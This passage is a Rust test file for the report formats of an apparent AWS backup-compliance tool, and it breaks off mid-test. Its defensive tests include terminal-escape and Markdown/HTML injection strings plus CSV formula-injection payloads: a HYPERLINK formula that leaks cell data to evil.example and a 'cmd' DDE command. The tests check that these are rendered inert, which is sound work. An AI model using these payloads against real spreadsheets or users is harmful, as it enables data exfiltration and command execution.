//! Every report format on one small, hand-built report: golden snapshots,
//! JUnit structure and counts, JSON round trip, and hostile resource names.

use backstop::model::{CollectionError, ResourceRef, Source};
use backstop::render::table::TableOptions;
use backstop::render::{csv, html, json, junit, markdown, table};
use backstop::report::{CATEGORIES, Finding, Report, Severity, Status, WaiverNote};
use jiff::civil::date;
use std::sync::Arc;

const HOSTILE: &str = "evil<&>\"'|*_[x](y)\n# heading\u{1b}[31mred\u{7}";
/// HOSTILE as every format should show it: the line break flattened, the
/// escape sequence and the bell gone.
const HOSTILE_SHOWN: &str = "evil<&>\"'|*_[x](y) # headingred";

fn resource(kind: &str, id: &str, arn: &str, region: &str) -> ResourceRef {
    ResourceRef {
        resource_type: kind.into(),
        id: id.to_string(),
        arn: arn.to_string(),
        region: region.into(),
        account: "123456789012".into(),
        address: None,
    }
}

fn db(id: &str, region: &str) -> ResourceRef {
    let arn = format!("arn:aws:rds:{region}:123456789012:db:{id}");
    resource("aws.rds.db_instance", id, &arn, region)
}

#[allow(clippy::too_many_arguments)]
fn finding(
    rule: &str,
    title: &str,
    severity: Severity,
    category: &str,
    status: Status,
    message: &str,
    remediation: &str,
    resource: ResourceRef,
) -> Finding {
    Finding {
        rule: rule.into(),
        title: title.into(),
        severity,
        category: category.into(),
        status,
        message: message.into(),
        remediation: remediation.to_string(),
        resource: resource.into(),
        location: None,
        waiver: None,
    }
}

fn sample() -> Report {
    let bucket = resource(
        "aws.s3.bucket",
        "acme-backups",
        "arn:aws:s3:::acme-backups",
        "eu-west-1",
    );
    let log_group = resource(
        "aws.logs.log_group",
        "/aws/lambda/api",
        "arn:aws:logs:eu-west-1:123456789012:log-group:/aws/lambda/api",
        "eu-west-1",
    );
    let retention = "RDS automated backups are kept at least 7 days";
    let multi_az = "RDS instances are Multi-AZ";
    let mut waived = finding(
        "rds-deletion-protection",
        "RDS instances have deletion protection",
        Severity::High,
        "deletion-protection",
        Status::Waived,
        "deletion_protection is false, expected true",
        "aws rds modify-db-instance --db-instance-identifier db-legacy --deletion-protection",
        db("db-legacy", "eu-west-1"),
    );
    waived.waiver = Some(Box::new(WaiverNote {
        reason: "decommissioned in Q1".to_string(),
        owner: "data-team".to_string(),
        expires: Some(date(2026, 3, 31)),
        expired: false,
        location: None,
    }));
    let mut expired = finding(
        "logs-retention",
        "Log groups keep events at least 30 days",
        Severity::Medium,
        "logging",
        Status::Fail,
        "retention_days is null (never expires), expected >= 30",
        "aws logs put-retention-policy --log-group-name /aws/lambda/api --retention-in-days 30",
        log_group,
    );
    expired.waiver = Some(Box::new(WaiverNote {
        reason: "migration pending".to_string(),
        owner: String::new(),
        expires: Some(date(2026, 1, 1)),
        expired: true,
        location: None,
    }));
    let results = vec![
        finding(
            "rds-backup-retention",
            retention,
            Severity::High,
            "retention",
            Status::Fail,
            "backup_retention_days is 1, expected >= 7",
            "aws rds modify-db-instance --db-instance-identifier db-1 --backup-retention-period 7 --apply-immediately",
            db("db-1", "eu-west-1"),
        ),
        finding(
            "rds-backup-retention",
            retention,
            Severity::High,
            "retention",
            Status::Pass,
            "backup_retention_days is 14",
            "",
            db("db-2", "eu-west-1"),
        ),
        finding(
            "s3-versioning",
            "Backup buckets have versioning enabled",
            Severity::Medium,
            "retention",
            Status::Fail,
            "versioning is \"Suspended\", expected \"Enabled\"",
            "aws s3api put-bucket-versioning --bucket acme-backups --versioning-configuration Status=Enabled",
            bucket.clone(),
        ),
        waived,
        finding(
            "rds-multi-az",
            multi_az,
            Severity::Medium,
            "availability",
            Status::Pass,
            "multi_az is true",
            "",
            db("db-1", "eu-west-1"),
        ),
        finding(
            "rds-multi-az",
            multi_az,
            Severity::Medium,
            "availability",
            Status::Error,
            "rds DescribeDBInstances failed in us-east-1: AccessDenied: not authorized",
            "",
            resource("aws.rds.db_instance", "*", "", "us-east-1"),
        ),
        finding(
            "s3-public-access-blocked",
            "Buckets block all public access",
            Severity::Critical,
            "exposure",
            Status::Error,
            "s3 GetPublicAccessBlock failed in eu-west-1: AccessDenied: not authorized",
            "",
            bucket,
        ),
        expired,
    ];
    let errors = vec![
        CollectionError {
            account: None,
            service: "rds".to_string(),
            region: "us-east-1".to_string(),
            operation: "DescribeDBInstances".to_string(),
            code: "AccessDenied".to_string(),
            message: "User is not authorized to perform rds:DescribeDBInstances".to_string(),
            resource_type: "aws.rds.db_instance".to_string(),
            resource_id: None,
            attributes: vec![],
        },
        CollectionError {
            account: None,
            service: "s3".to_string(),
            region: "eu-west-1".to_string(),
            operation: "GetPublicAccessBlock".to_string(),
            code: "AccessDenied".to_string(),
            message: "Access Denied".to_string(),
            resource_type: "aws.s3.bucket".to_string(),
            resource_id: Some("acme-backups".to_string()),
            attributes: vec!["public_access_blocked".to_string()],
        },
    ];
    let source = Source {
        kind: "live".to_string(),
        account: Some("123456789012".to_string()),
        regions: vec!["eu-west-1".to_string(), "us-east-1".to_string()],
        accounts: Vec::new(),
    };
    let generated_at = "2026-01-05T06:00:00Z".parse().unwrap();
    let mut report = Report::new(generated_at, source, results, errors);
    // Pinned so the snapshots do not change with every release.
    report.tool_version = "0.0.0-test".to_string();
    report
}

/// A report whose every user-controlled string is hostile.
fn hostile() -> Report {
    let evil = resource("aws.rds.db_instance", HOSTILE, "", "eu-west-1");
    let mut failing = finding(
        "rds-backup-retention",
        "RDS automated backups are kept at least 7 days",
        Severity::High,
        "retention",
        Status::Fail,
        HOSTILE,
        HOSTILE,
        evil.clone(),
    );
    failing.waiver = Some(Box::new(WaiverNote {
        reason: HOSTILE.to_string(),
        owner: HOSTILE.to_string(),
        expires: None,
        expired: true,
        location: None,
    }));
    let mut waived = finding(
        "rds-multi-az",
        "RDS instances are Multi-AZ",
        Severity::Medium,
        "availability",
        Status::Waived,
        HOSTILE,
        HOSTILE,
        evil.clone(),
    );
    waived.waiver = Some(Box::new(WaiverNote {
        reason: HOSTILE.to_string(),
        owner: HOSTILE.to_string(),
        expires: Some(date(2026, 3, 31)),
        expired: false,
        location: None,
    }));
    let passing = finding(
        "rds-deletion-protection",
        "RDS instances have deletion protection",
        Severity::High,
        "deletion-protection",
        Status::Pass,
        HOSTILE,
        "",
        evil.clone(),
    );
    let error = CollectionError {
        account: None,
        service: "rds".to_string(),
        region: "eu-west-1".to_string(),
        operation: "DescribeDBSnapshots".to_string(),
        code: "AccessDenied".to_string(),
        message: HOSTILE.to_string(),
        resource_type: "aws.rds.db_snapshot".to_string(),
        resource_id: None,
        attributes: vec![],
    };
    let source = Source {
        kind: "live".to_string(),
        account: Some(HOSTILE.to_string()),
        regions: vec!["eu-west-1".to_string()],
        accounts: Vec::new(),
    };
    Report::new(
        "2026-01-05T06:00:00Z".parse().unwrap(),
        source,
        vec![failing, waived, passing],
        vec![error],
    )
}

const PLAIN: TableOptions = TableOptions {
    verbose: false,
    color: false,
    width: None,
};
const VERBOSE: TableOptions = TableOptions {
    verbose: true,
    color: false,
    width: None,
};

#[test]
fn table_snapshot() {
    insta::assert_snapshot!(table::render(&sample(), &PLAIN));
}

#[test]
fn table_verbose_snapshot() {
    insta::assert_snapshot!(table::render(&sample(), &VERBOSE));
}

#[test]
fn junit_snapshot() {
    insta::assert_snapshot!(junit::render(&sample(), &[]));
}

#[test]
fn json_snapshot() {
    insta::assert_snapshot!(json::render(&sample()));
}

#[test]
fn markdown_snapshot() {
    insta::assert_snapshot!(markdown::render(&sample(), markdown::DEFAULT_MAX_CHARS));
}

#[test]
fn table_colours_statuses_only_when_asked() {
    let report = sample();
    let coloured = table::render(
        &report,
        &TableOptions {
            verbose: true,
            color: true,
            width: None,
        },
    );
    assert!(coloured.contains('\u{1b}'), "{coloured}");
    assert!(!table::render(&report, &VERBOSE).contains('\u{1b}'));
}

#[test]
fn table_wraps_inside_its_cells_to_the_terminal_width() {
    let report = sample();
    let unlimited = table::render(&report, &VERBOSE);
    let widest = |text: &str| text.lines().map(|l| l.chars().count()).max().unwrap();
    assert!(widest(&unlimited) > 80, "{unlimited}");
    for color in [false, true] {
        let fitted = table::render(
            &report,
            &TableOptions {
                width: Some(80),
                color,
                ..VERBOSE
            },
        );
        let plain = if color { strip_ansi(&fitted) } else { fitted };
        assert!(widest(&plain) <= 80, "{plain}");
        // Each result is still one row (one Status cell): the long cells
        // took more lines inside the row.
        let statuses = |text: &str| {
            text.lines()
                .filter(|l| {
                    ["fail", "pass", "error", "waived"]
                        .iter()
                        .any(|s| l.starts_with(&format!("│ {s} ")))
                })
                .count()
        };
        assert_eq!(statuses(&plain), statuses(&unlimited), "{plain}");
        assert!(plain.lines().count() > unlimited.lines().count());
        let words = |text: &str| -> Vec<String> {
            let cells = text.lines().flat_map(|l| l.split('│'));
            cells
                .flat_map(|c| c.split_whitespace().map(str::to_string).collect::<Vec<_>>())
                .collect()
        };
        let wrapped = words(&plain);
        for word in ["expected", "decommissioned", "Suspended\",", "authorized"] {
            assert!(wrapped.iter().any(|w| w.contains(word)), "{word}: {plain}");
        }
    }
}

#[test]
fn hostile_names_stay_inert_in_a_fitted_table() {
    let text = table::render(
        &hostile(),
        &TableOptions {
            width: Some(60),
            ..VERBOSE
        },
    );
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(!text.contains('\u{7}'), "{text}");
    let table_lines = text.lines().filter(|l| l.starts_with(['┌', '│', '╞', '└']));
    assert!(table_lines.clone().count() > 20, "{text}");
    for line in table_lines {
        assert!(line.chars().count() <= 60, "{line}");
    }
}

/// The text without its SGR colour sequences.
fn strip_ansi(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        out.push_str(&rest[..at]);
        let after = &rest[at..];
        let end = after.find('m').expect("an SGR sequence ends with m");
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

#[test]
fn table_lists_failures_before_errors() {
    let text = table::render(&sample(), &PLAIN);
    let first_table: Vec<&str> = text.lines().take_while(|l| !l.starts_with('└')).collect();
    let rows: Vec<&str> = first_table
        .iter()
        .copied()
        .filter(|l| l.contains(" fail ") || l.contains(" error "))
        .collect();
    let statuses: Vec<&str> = rows
        .iter()
        .map(|l| {
            if l.contains(" fail ") {
                "fail"
            } else {
                "error"
            }
        })
        .collect();
    assert_eq!(
        statuses,
        ["fail", "fail", "fail", "error", "error"],
        "{text}"
    );
    // Within a status, the worse severity first: critical before medium.
    assert!(rows[3].contains("s3-public-access-blocked"), "{text}");
    assert!(
        !first_table.iter().any(|l| l.contains("│ pass ")),
        "passes only with verbose: {text}"
    );
}

fn attr<'a>(node: roxmltree::Node<'a, '_>, name: &str) -> &'a str {
    node.attribute(name)
        .unwrap_or_else(|| panic!("<{}> has no {name}", node.tag_name().name()))
}

fn count(node: roxmltree::Node<'_, '_>, name: &str) -> usize {
    attr(node, name).parse().unwrap()
}

#[test]
fn junit_counts_and_elements_match_the_report() {
    let report = sample();
    let xml = junit::render(&report, &[]);
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "testsuites");
    let s = &report.summary;
    assert_eq!(count(root, "tests"), report.results.len());
    assert_eq!(count(root, "failures"), s.fail);
    assert_eq!(count(root, "errors"), s.error);
    assert_eq!(count(root, "skipped"), s.waived);
    assert!(attr(root, "timestamp").starts_with("2026-01-05T06:00:00"));

    let suites: Vec<_> = root.children().filter(|n| n.is_element()).collect();
    let names: Vec<&str> = suites.iter().map(|n| attr(*n, "name")).collect();
    let mut rules: Vec<&str> = report.results.iter().map(|f| f.rule.as_str()).collect();
    rules.dedup();
    assert_eq!(names, rules, "one suite per rule, in rule id order");

    for suite in suites {
        let rule = attr(suite, "name");
        let findings: Vec<&Finding> = report.results.iter().filter(|f| f.rule == rule).collect();
        let with = |status| findings.iter().filter(|f| f.status == status).count();
        assert_eq!(count(suite, "tests"), findings.len(), "{rule}");
        assert_eq!(count(suite, "failures"), with(Status::Fail), "{rule}");
        assert_eq!(count(suite, "errors"), with(Status::Error), "{rule}");
        assert_eq!(count(suite, "skipped"), with(Status::Waived), "{rule}");

        let cases: Vec<_> = suite
            .children()
            .filter(|n| n.has_tag_name("testcase"))
            .collect();
        assert_eq!(cases.len(), findings.len(), "{rule}");
        for (case, finding) in cases.into_iter().zip(findings) {
            assert_eq!(attr(case, "classname"), rule);
            let expected_name = if finding.resource.arn.is_empty() {
                format!("{}/{}", finding.resource.region, finding.resource.id)
            } else {
                finding.resource.arn.clone()
            };
            assert_eq!(attr(case, "name"), expected_name);
            let outcome: Vec<_> = case
                .children()
                .filter(|n| n.is_element() && !n.has_tag_name("properties"))
                .collect();
            match finding.status {
                Status::Pass => assert!(outcome.is_empty(), "{expected_name}"),
                Status::Fail => {
                    assert_eq!(outcome.len(), 1);
                    let failure = outcome[0];
                    assert!(failure.has_tag_name("failure"));
                    assert_eq!(attr(failure, "message"), finding.message);
                    assert_eq!(attr(failure, "type"), finding.severity.as_str());
                    let text = failure.text().unwrap();
                    assert!(text.starts_with(&finding.remediation), "{text}");
                }
                Status::Error => {
                    assert_eq!(outcome.len(), 1);
                    assert!(outcome[0].has_tag_name("error"));
                    assert_eq!(attr(outcome[0], "type"), "error");
                    assert_eq!(attr(outcome[0], "message"), finding.message);
                }
                Status::Waived => {
                    assert_eq!(outcome.len(), 1);
                    assert!(outcome[0].has_tag_name("skipped"));
                    assert_eq!(
                        attr(outcome[0], "message"),
                        "waived: decommissioned in Q1, expires 2026-03-31"
                    );
                }
            }
        }
    }
    assert!(
        xml.contains(r#"name="us-east-1/*""#),
        "a failed listing is named REGION/*: {xml}"
    );
}

#[test]
fn json_round_trips() {
    for report in [sample(), hostile()] {
        let text = json::render(&report);
        assert!(text.ends_with("}\n"));
        assert!(!text.contains('\u{1b}'), "control characters are escaped");
        assert_eq!(Report::from_json(&text).unwrap(), report);
    }
}

#[test]
fn json_has_the_pinned_fields() {
    let value: serde_json::Value = serde_json::from_str(&json::render(&sample())).unwrap();
    assert_eq!(value["schema"], "backstop.report/v1");
    assert_eq!(value["generated_at"], "2026-01-05T06:00:00Z");
    assert_eq!(value["source"]["kind"], "live");
    assert_eq!(value["summary"]["fail"], 3);
    assert_eq!(value["summary"]["by_category"]["retention"]["pass"], 1);
    let result = &value["results"][0];
    for field in [
        "rule",
        "title",
        "severity",
        "category",
        "status",
        "message",
        "remediation",
    ] {
        assert!(result[field].is_string(), "{field}");
    }
    for field in ["type", "id", "arn", "region", "account"] {
        assert!(result["resource"][field].is_string(), "resource.{field}");
    }
}

#[test]
fn json_refuses_another_schema_version() {
    let text = json::render(&sample()).replace("backstop.report/v1", "backstop.report/v2");
    let err = Report::from_json(&text).unwrap_err().to_string();
    assert!(err.contains("backstop.report/v2"), "{err}");
}

#[test]
fn hostile_names_stay_inert_in_the_table() {
    for options in [PLAIN, VERBOSE] {
        let text = table::render(&hostile(), &options);
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(!text.contains('\u{7}'), "{text}");
        assert!(text.contains(HOSTILE_SHOWN), "{text}");
        for line in text.lines().filter(|l| l.contains("evil")) {
            assert!(
                line.contains("headingred"),
                "a name split across lines: {line}"
            );
        }
        assert!(!text.lines().any(|l| l.starts_with("# heading")), "{text}");
    }
}

#[test]
fn hostile_names_round_trip_through_junit() {
    let report = hostile();
    let xml = junit::render(&report, &[]);
    let doc = roxmltree::Document::parse(&xml).expect("well-formed XML");
    let cases: Vec<_> = doc
        .descendants()
        .filter(|n| n.has_tag_name("testcase"))
        .collect();
    assert_eq!(cases.len(), 3);
    for case in &cases {
        assert_eq!(attr(*case, "name"), format!("eu-west-1/{HOSTILE_SHOWN}"));
    }
    let failure = doc
        .descendants()
        .find(|n| n.has_tag_name("failure"))
        .unwrap();
    assert_eq!(attr(failure, "message"), HOSTILE_SHOWN);
    // Text keeps its line break; only the controls are gone.
    let text = failure.text().unwrap();
    assert!(
        text.starts_with("evil<&>\"'|*_[x](y)\n# headingred"),
        "{text:?}"
    );
    let skipped = doc
        .descendants()
        .find(|n| n.has_tag_name("skipped"))
        .unwrap();
    assert_eq!(
        attr(skipped, "message"),
        format!("waived: {HOSTILE_SHOWN}, expires 2026-03-31")
    );
}

#[test]
fn hostile_names_stay_inert_in_markdown() {
    let text = markdown::render(&hostile(), markdown::DEFAULT_MAX_CHARS);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
    let escaped = r#"evil&lt;&amp;&gt;"'\|\*\_\[x\](y) \# headingred"#;
    assert!(text.contains(escaped), "{text}");

    let headings: Vec<String> = CATEGORIES
        .iter()
        .map(|(_, heading)| format!("## {heading}"))
        .chain(
            [
                "Could not be read",
                "Waived",
                "Not evaluated",
                "Unused waivers",
            ]
            .map(|h| format!("## {h}")),
        )
        .collect();
    // A remediation sits in a fenced block, shown as written: only the
    // fence that opened it may close it.
    let mut fence: Option<String> = None;
    for line in text.lines() {
        let trimmed = line.trim_start();
        if let Some(open) = &fence {
            if trimmed == open {
                fence = None;
            } else {
                assert!(!trimmed.starts_with(open.as_str()), "fence broken: {line}");
            }
            continue;
        }
        if trimmed.starts_with("```") {
            fence = Some(trimmed.to_string());
            continue;
        }
        // The only HTML is the fixed block that folds the passes away.
        let html_ok = ["<details><summary>", "</details>"];
        if line.contains('<') {
            assert!(
                html_ok.iter().any(|h| line.starts_with(h)),
                "raw HTML: {line}"
            );
        }
        if line.starts_with('#') {
            assert!(headings.iter().any(|h| h == line), "forged heading: {line}");
        }
        let bare_pipes = line
            .char_indices()
            .filter(|&(i, c)| c == '|' && !line[..i].ends_with('\\'))
            .count();
        if line.starts_with('|') {
            // The severity table has 5 columns, the passing counts 3.
            assert!(
                bare_pipes == 6 || bare_pipes == 4,
                "table row with extra cells: {line}"
            );
        } else {
            assert_eq!(bare_pipes, 0, "unescaped pipe: {line}");
        }
        // Code spans open and close on the same line: no name ends one.
        let bare_backticks = line
            .char_indices()
            .filter(|&(i, c)| c == '`' && !line[..i].ends_with('\\'))
            .count();
        assert_eq!(bare_backticks % 2, 0, "unbalanced code span: {line}");
    }
}

/// The cells of a CSV report, header row first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn hostile_names_round_trip_through_csv() {
    let report = hostile();
    let text = csv::render(&report);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
    let rows = csv_rows(&text);
    assert_eq!(rows[0], csv::COLUMNS);
    assert_eq!(rows.len(), 1 + report.results.len());
    let column = |name: &str| csv::COLUMNS.iter().position(|c| *c == name).unwrap();
    // The line break stays (quoted), only the controls are gone.
    let shown = "evil<&>\"'|*_[x](y)\n# headingred";
    for (row, finding) in rows[1..].iter().zip(&report.results) {
        assert_eq!(row.len(), csv::COLUMNS.len(), "{row:?}");
        assert_eq!(row[column("resource_id")], shown);
        assert_eq!(row[column("message")], shown);
        assert_eq!(row[column("status")], finding.status.to_string());
        assert_eq!(row[column("rule")], finding.rule);
        let waiver = finding.waiver.as_ref();
        let reason = if waiver.is_some() { shown } else { "" };
        assert_eq!(row[column("waiver_reason")], reason);
        let expires = waiver.and_then(|w| w.expires).map(|d| d.to_string());
        assert_eq!(row[column("waiver_expires")], expires.unwrap_or_default());
    }
}

#[test]
fn csv_quotes_commas_and_newlines_round_trip() {
    let name = "db \"prod\", eu\nsecond line,\"\"";
    let mut report = sample();
    Arc::make_mut(&mut report.results[0].resource).id = name.to_string();
    Arc::make_mut(&mut report.results[0].resource).address =
        Some("module.db[\"a,b\"].aws_db_instance.this".into());
    report.results[0].location = Some(Box::new(backstop::model::Location {
        file: "infra/db, main.tf".into(),
        line: 12,
    }));
    let rows = csv_rows(&csv::render(&report));
    let column = |name: &str| csv::COLUMNS.iter().position(|c| *c == name).unwrap();
    let row = &rows[1];
    assert_eq!(row[column("resource_id")], name);
    assert_eq!(
        row[column("address")],
        "module.db[\"a,b\"].aws_db_instance.this"
    );
    assert_eq!(row[column("file")], "infra/db, main.tf");
    assert_eq!(row[column("line")], "12");
    // Results without a location leave file and line empty.
    assert_eq!(rows[2][column("file")], "");
    assert_eq!(rows[2][column("line")], "");
}

/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (after
/// blanks) as a formula: every such user-controlled cell is made text.
#[test]
fn csv_cells_never_start_a_formula() {
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r\n=1+1",
        " =1+1",
    ];
    let mut report = sample();
    for (finding, formula) in report.results.iter_mut().zip(formulas.iter().cycle()) {
        Arc::make_mut(&mut finding.resource).id = formula.to_string();
        Arc::make_mut(&mut finding.resource).account = (*formula).into();
        finding.message = (*formula).into();
        finding.title = (*formula).into();
        finding.category = (*formula).into();
        finding.rule = (*formula).into();
    }
    assert!(report.results.len() >= formulas.len());
    let rows = csv_rows(&csv::render(&report));
    for row in &rows[1..] {
        for cell in row {
            let start = cell.trim_start().chars().next();
            assert!(
                !matches!(start, Some('=' | '+' | '-' | '@')),
                "formula cell {cell:?} in {row:?}"
            );
        }
        // The text itself is kept, behind the quote.
        let id = &row[csv::COLUMNS
            .iter()
            .position(|c| *c == "resource_id")
            .unwrap()];
        assert!(id.starts_with('\''), "{id:?}");
    }
}

#[test]
fn hostile_names_stay_inert_in_html() {
    let mut report = hostile();
    // A category from a user's rule folder reaches the charts' labels too.
    for finding in &mut report.results {
        finding.category = HOSTILE.into();
    }
    report.summary = backstop::report::Summary::of(&report.results);
    let mut older = report.clone();
    older.generated_at = "2025-12-29T06:00:00Z".parse().unwrap();
    let text = html::render(&report, &[older], Default::default());
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
    // As text and inside the SVG charts alike, never as markup.
    let escaped = "evil&lt;&amp;&gt;&quot;&#39;|*_[x](y) # headingred";
    assert!(text.contains(escaped), "{text}");
    let in_svg = "evil&lt;&amp;&gt;&quot;&apos;|*_[x](y) # headingred";
    assert!(text.contains(in_svg), "{text}");
    assert!(!text.contains("evil<"), "raw name in the page");
    assert_eq!(text.matches("<script").count(), 1, "only the page's script");
    // Every tag in the page is one of the page's own.
    let tags = regex::Regex::new(r"</?([a-zA-Z][a-zA-Z0-9]*)").unwrap();
    let known = [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "h1",
        "h2",
        "h3",
        "p",
        "div",
        "b",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "section",
        "figure",
        "figcaption",
        "svg",
        "rect",
        "polyline",
        "circle",
        "line",
        "text",
        "details",
        "summary",
        "ul",
        "li",
        "span",
        "strong",
        "code",
        "pre",
        "label",
        "input",
        "select",
        "option",
        "script",
    ];
    for tag in tags.captures_iter(&text) {
        assert!(known.contains(&&tag[1]), "unexpected tag <{}>", &tag[1]);
    }
}

#[test]
fn markdown_hostile_snapshot() {
    // The golden file shows exactly how hostile names come out.
    insta::assert_snapshot!(markdown::render(&hostile(), markdown::DEFAULT_MAX_CHARS));
}

/// `n` results: a third failing, a tenth waived, the rest passing, over
/// several rules and categories.
fn large(n: usize) -> Report {
    let categories = ["retention", "encryption", "cross-region", "exposure"];
    let results = (0..n)
        .map(|i| {
            let status = match i % 10 {
                0 => Status::Waived,
                1..=3 => Status::Fail,
                _ => Status::Pass,
            };
            let mut f = finding(
                &format!("rule-{}", i % 40),
                "A rule",
                Severity::High,
                categories[i % categories.len()],
                status,
                "backup_retention_days is 1, expected >= 7",
                "aws rds modify-db-instance --db-instance-identifier {id} --backup-retention-period 7",
                db(&format!("db-{i:06}"), "eu-west-1"),
            );
            if status == Status::Waived {
                f.waiver = Some(Box::new(backstop::report::WaiverNote {
                    reason: "accepted".into(),
                    owner: String::new(),
                    expires: None,
                    expired: false,
                    location: None,
                }));
            }
            f
        })
        .collect();
    let source = Source {
        kind: "live".to_string(),
        account: Some("123456789012".to_string()),
        regions: vec!["eu-west-1".to_string()],
        accounts: Vec::new(),
    };
    Report::new(
        "2026-01-05T06:00:00Z".parse().unwrap(),
        source,
        results,
        vec![],
    )
}

#[test]
fn a_50000_result_markdown_stays_under_the_cap_failures_first() {
    let report = large(50_000);
    let text = markdown::render(&report, markdown::DEFAULT_MAX_CHARS);
    let chars = text.chars().count();
    assert!(chars <= markdown::DEFAULT_MAX_CHARS, "{chars} characters");
    assert!(
        chars > markdown::DEFAULT_MAX_CHARS - 2_000,
        "the cap is used: {chars}"
    );
    assert!(text.contains("more items not shown"), "says it was cut");
    // What was cut is what matters least: failing items are shown before any
    // waived one, and the cut never splits an item (every fence closes).
    assert!(
        !text.contains("## Waived"),
        "failures fill the budget first"
    );
    assert_eq!(text.matches("    ```").count() % 2, 0, "fences balanced");
    // Under the cap, everything is there: failures, waivers, pass counts.
    let small = large(200);
    let text = markdown::render(&small, markdown::DEFAULT_MAX_CHARS);
    assert!(!text.contains("not shown"));
    assert_eq!(text.matches("- [ ] ").count(), 60);
    assert_eq!(text.matches("- [x] ~~").count(), 20);
    assert!(text.contains("<details><summary>120 results passing in "));
}

#[test]
fn a_cut_markdown_stops_at_the_first_item_that_does_not_fit() {
    // Three long critical failures, then short low ones: once the third long
    // one does not fit, no short one is squeezed in after it, whatever room
    // is left, so what is shown is the head of the order.
    let long = "x".repeat(2_000);
    let mut results: Vec<Finding> = (0..3)
        .map(|i| {
            finding(
                "rds-backup-retention",
                "Backups kept",
                Severity::Critical,
                "retention",
                Status::Fail,
                &long,
                "",
                db(&format!("big-{i}"), "eu-west-1"),
            )
        })
        .collect();
    results.extend((0..50).map(|i| {
        finding(
            "rds-multi-az",
            "Multi-AZ",
            Severity::Low,
            "retention",
            Status::Fail,
            "multi_az is false",
            "",
            db(&format!("small-{i:02}"), "eu-west-1"),
        )
    }));
    let mut report = sample();
    report.summary = backstop::report::Summary::of(&results);
    report.results = results;
    report.collection_errors.clear();
    let text = markdown::render(&report, 5_000);
    assert!(
        text.contains("`big-0`") && text.contains("`big-1`"),
        "{text}"
    );
    assert!(!text.contains("`big-2`"), "{text}");
    assert!(!text.contains("small-"), "nothing after the cut: {text}");
    assert!(text.contains("51 more items not shown"), "{text}");
}

// Several accounts: an organisation audit of two read accounts and one
// whose role could not be assumed.

const UNREADABLE: &str = "333333333333";
const NOT_ASSUMED: &str = "sts AssumeRole failed in us-east-1: AccessDenied: not authorized";

fn in_account(mut f: Finding, account: &str) -> Finding {
    Arc::make_mut(&mut f.resource).account = account.into();
    Arc::make_mut(&mut f.resource).arn = f.resource.arn.replace("123456789012", account);
    f
}

/// `prod` (alias `alias`) fails one rule and passes another, `staging`
/// (named in Organizations) has a waiver and a failed call, and the third
/// account has an `error` per rule: it was never read.
fn organisation(alias: &str) -> Report {
    let retention = |status, id: &str| {
        finding(
            "rds-backup-retention",
            "RDS automated backups are kept at least 7 days",
            Severity::High,
            "retention",
            status,
            "backup_retention_days is 1, expected >= 7",
            "aws rds modify-db-instance --backup-retention-period 7",
            db(id, "eu-west-1"),
        )
    };
    let mut waived = in_account(retention(Status::Waived, "db-staging"), "222222222222");
    waived.waiver = Some(Box::new(WaiverNote {
        reason: "staging is rebuilt nightly".to_string(),
        owner: String::new(),
        expires: None,
        expired: false,
        location: None,
    }));
    let mut unread = in_account(retention(Status::Error, "*"), UNREADABLE);
    unread.message = format!("could not list aws.rds.db_instance: {NOT_ASSUMED}").into();
    unread.remediation = String::new();
    let results = vec![
        in_account(retention(Status::Fail, "db-prod"), "111111111111"),
        in_account(retention(Status::Pass, "db-prod-2"), "111111111111"),
        waived,
        unread,
    ];
    let error = CollectionError {
        account: Some("222222222222".to_string()),
        service: "rds".to_string(),
        region: "eu-west-1".to_string(),
        operation: "DescribeDBSnapshots".to_string(),
        code: "AccessDenied".to_string(),
        message: "denied by an SCP".to_string(),
        resource_type: "aws.rds.db_snapshot".to_string(),
        resource_id: None,
        attributes: vec![],
    };
    let account = |id: &str| backstop::model::AccountSource {
        id: id.to_string(),
        role_arn: Some(format!("arn:aws:iam::{id}:role/BackstopAudit")),
        regions: vec!["eu-west-1".to_string()],
        ..Default::default()
    };
    let source = Source {
        kind: "live".to_string(),
        account: None,
        regions: vec!["eu-west-1".to_string()],
        accounts: vec![
            backstop::model::AccountSource {
                alias: Some(alias.to_string()),
                ..account("111111111111")
            },
            backstop::model::AccountSource {
                name: Some("Staging".to_string()),
                ..account("222222222222")
            },
            backstop::model::AccountSource {
                error: Some(NOT_ASSUMED.to_string()),
                ..account(UNREADABLE)
            },
        ],
    };
    Report::new(
        "2026-01-05T06:00:00Z".parse().unwrap(),
        source,
        results,
        vec![error],
    )
}

/// Where each of `needles` first appears in `text`, asserting that they
/// appear in that order.
fn in_order(text: &str, needles: &[&str]) {
    let mut from = 0;
    for needle in needles {
        let at = text[from..]
            .find(needle)
            .unwrap_or_else(|| panic!("{needle:?} missing after byte {from}:\n{text}"));
        from += at + needle.len();
    }
}

#[test]
fn a_table_of_several_accounts_shows_one_group_each() {
    let text = table::render(&organisation("prod"), &PLAIN);
    in_order(
        &text,
        &[
            "Account prod (111111111111): 1 fail, 0 error, 0 waived, 1 pass",
            "db-prod (eu-west-1)",
            "Account Staging (222222222222): 0 fail, 0 error, 1 waived, 0 pass",
            "No failing or erroring results.",
            "Could not be read (1 call failed",
            "denied by an SCP",
            "Account 333333333333: 0 fail, 1 error, 0 waived, 0 pass",
            &format!("NOT READ: {NOT_ASSUMED}"),
            "all aws.rds.db_instance (eu-west-1)",
            "Total: 1 fail, 1 error, 1 waived, 1 pass (4 results)",
        ],
    );
    assert_eq!(text.matches("Could not be read").count(), 1, "{text}");
